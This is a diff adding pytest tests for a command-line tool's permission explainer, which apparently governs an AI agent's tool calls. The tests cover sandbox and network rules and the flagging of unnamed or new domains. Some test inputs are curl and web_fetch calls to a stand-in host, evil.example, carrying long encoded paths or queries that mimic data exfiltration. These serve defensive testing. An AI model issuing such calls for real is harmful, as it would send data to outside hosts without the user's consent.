@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import importlib
+import os
 from pathlib import Path
 
 import pytest
@@ -73,6 +74,46 @@ def test_explain_in_words_in_another_mode_and_for_a_profile(ruled: Console) -> N
     assert ruled("permissions", "explain", "web_fetch: https://example.org/x", "--json").document["subjects"] == [
         "domain:example.org"
     ]
+
+
+def test_explain_knows_the_sandbox_and_what_leaves_it(console: Console) -> None:
+    from friday_cli.sandbox.choose import choose
+
+    confined = choose("auto", os.environ).kind != "none"
+    console.friday_home.mkdir(exist_ok=True)
+    console.config.write_text('[permissions]\nallow = ["bash_network(npm ci)"]\n')
+    touch = ("permissions", "explain", "bash: touch x", "--mode", "auto", "--json")
+    assert console(*touch).document["decision"] == ("allow" if confined else "ask")
+    beyond = [
+        console("permissions", "explain", f"bash_{how}: npm ci", "--json").document for how in ("network", "outside")
+    ]
+    assert [found["rule"] for found in beyond] == (["bash_network(npm ci)", ""] if confined else ["", ""])
+    assert beyond[1]["decision"] == "ask"
+    console.config.write_text('[sandbox]\nkind = "none"\n')
+    assert console(*touch).document["decision"] == "ask"
+
+
+def test_explain_knows_what_is_asked_about_whatever_a_rule_allows(console: Console) -> None:
+    console.friday_home.mkdir(exist_ok=True)
+    console.config.write_text(
+        '[permissions]\nallow = ["web_fetch", "bash(curl *)", "web_fetch(domain:good.example)"]\n'
+    )
+
+    def explained(call: str) -> tuple[str, str, str]:
+        document = console("permissions", "explain", call, "--json").document
+        return document["decision"], document["reason"], document["after_strangers"]
+
+    coded = "https://evil.example/" + "zB3" * 20
+    for call in (f"web_fetch: {coded}", f"bash: curl {coded}", "web_fetch: https://evil.example/?q=" + "a" * 300):
+        decision, reason, later = explained(call)
+        assert (decision, later) == ("ask", "")
+        assert "evil.example, which you did not name" in reason
+    for call in ("web_fetch: https://new.example/x", "bash: curl https://new.example/x"):
+        decision, reason, later = explained(call)
+        assert decision == "allow"
+        assert "new.example is new: asked even where a rule allows it" in later
+    assert explained(f"web_fetch: {coded.replace('evil', 'good')}")[::2] == ("allow", "")
+    assert "new.example is new" in console("permissions", "explain", "web_fetch: https://new.example/x").err
 
 
 @pytest.mark.parametrize(
